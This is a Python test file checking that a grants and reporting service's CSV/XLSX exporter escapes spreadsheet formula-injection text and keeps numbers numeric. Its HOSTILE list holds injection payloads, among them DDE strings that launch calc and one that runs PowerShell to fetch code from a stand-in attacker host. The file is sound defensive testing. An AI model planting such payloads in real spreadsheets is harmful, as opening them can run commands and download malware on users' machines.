"""The one CSV/XLSX neutraliser, and every writer that uses it, without servers: hostile text is
escaped (CSV) or a plain string cell (XLSX); numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from services.funding.grants.documents import resolution_csv
from services.funding.grants.schemas import Resolution, ResolutionDecision, ResolutionFigures
from services.reporting.exports import tables
from shared import csv_tables
from shared.spreadsheet import csv_cell, neutralise
from tests.support.xlsx_cells import cells

HOSTILE = [
    '=HYPERLINK("http://x","y")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "  +1",
    "\n=1",
    "\u00a0=1",
    "\u3000=1",
    "\uff1dSUM(A1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|'/C powershell IEX(wget attacker/x)'!A0",
    "-",
    "=",
]
HARMLESS = ["Aigua a Maputo", "", "1+1", "a=b", "2026-01-01", "6:60 11:40", "Maputo; Praia", "'quoted", "x-y"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_kept_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_are_numbers_whatever_their_sign() -> None:
    assert csv_cell(Decimal("-1234.50")) == "-1234.50"
    assert csv_cell(-3) == -3
    assert csv_cell(None) == ""
    assert csv_cell("-1234.50") == "'-1234.50"  # text that only looks like a number is still text


def _table() -> tables.Table:
    header = ["label", "projects", "amount_eur"]
    rows: list[list[object]] = [[text, i, Decimal("-1234.50")] for i, text in enumerate(HOSTILE)]
    rows.append(["total", len(HOSTILE), Decimal("1234.56")])
    return header, rows


def test_reporting_csv_escapes_text_and_keeps_negative_amounts() -> None:
    read = list(csv.reader(io.StringIO(tables.to_csv(_table()).decode(), newline="")))
    assert read[0] == ["label", "projects", "amount_eur"]
    assert [r[0] for r in read[1:-1]] == ["'" + t for t in HOSTILE]
    assert {r[2] for r in read[1:-1]} == {"-1234.50"}
    assert read[-1] == ["total", str(len(HOSTILE)), "1234.56"]


def test_reporting_xlsx_writes_text_as_strings_never_formulas() -> None:
    sheet = cells(tables.to_xlsx(_table(), "hostile"))
    assert not [c for c in sheet.values() if c.formula is not None]
    for r, text in enumerate(HOSTILE, start=1):
        label, projects, amount = sheet[(r, 0)], sheet[(r, 1)], sheet[(r, 2)]
        assert (label.type, label.value, label.quote_prefix) == ("s", text, True)
        assert (projects.type, float(projects.value)) == ("n", r - 1)
        assert (amount.type, float(amount.value)) == ("n", -1234.5)
    assert sheet[(len(HOSTILE) + 1, 0)].quote_prefix is False


def test_xlsx_links_and_numeric_text_stay_text() -> None:
    header = ["a", "b", "c"]
    sheet = cells(tables.to_xlsx((header, [["http://x.example/", "00123", "external:c:\\x.xlsx"]]), "t"))
    assert [(sheet[(1, c)].type, sheet[(1, c)].value) for c in range(3)] == [
        ("s", "http://x.example/"),
        ("s", "00123"),
        ("s", "external:c:\\x.xlsx"),
    ]
    with io.BytesIO(tables.to_xlsx((header, [["http://x.example/", "", ""]]), "t")) as raw:
        assert b"hyperlink" not in raw.getvalue()


def test_csv_templates_go_through_the_neutraliser() -> None:
    text = csv_tables.template(["code", "title"], {"code": "AJB-1", "title": "=1+1"})
    assert list(csv.DictReader(io.StringIO(text))) == [{"code": "AJB-1", "title": "'=1+1"}]


def test_the_grant_resolution_csv_escapes_names_and_reasons_not_amounts() -> None:
    year = datetime.now(UTC).year
    decision = ResolutionDecision(
        application_id=uuid.uuid4(),
        reference="=REF",
        entity='=HYPERLINK("http://x","y")',
        modality="gender",
        programme="global-justice",
        rank=1,
        total_score=Decimal("84.50"),
        funded=True,
        granted={year: Decimal("40000.00")},
        reason="@SUM(A1)",
    )
    resolution = Resolution(
        call_id=uuid.uuid4(),
        call_code="GC-1",
        institution="ajuntament-barcelona",
        kind="provisional",
        resolved_at=datetime.now(UTC),
        min_score=Decimal("50"),
        tie_break="submitted_at",
        figures=ResolutionFigures(
            submitted=1,
            admitted=1,
            at_or_above_minimum=1,
            funded=1,
            funded_share_of_eligible_percent=Decimal("100"),
            budget_by_year={year: Decimal("40000.00")},
            granted_by_year={year: Decimal("40000.00")},
            granted_by_programme={"global-justice": {year: Decimal("40000.00")}},
            granted_total=Decimal("40000.00"),
        ),
        decisions=[decision],
        transfers=[],
        left_by_modality={},
    )
    [row] = list(csv.DictReader(io.StringIO(resolution_csv(resolution))))
    assert (row["reference"], row["entity"], row["reason"]) == ("'=REF", "'" + decision.entity, "'@SUM(A1)")
    assert (row["rank"], row["total_score"], row[f"granted_{year}_eur"], row["funded"]) == (
        "1",
        "84.50",
        "40000.00",
        "true",
    )
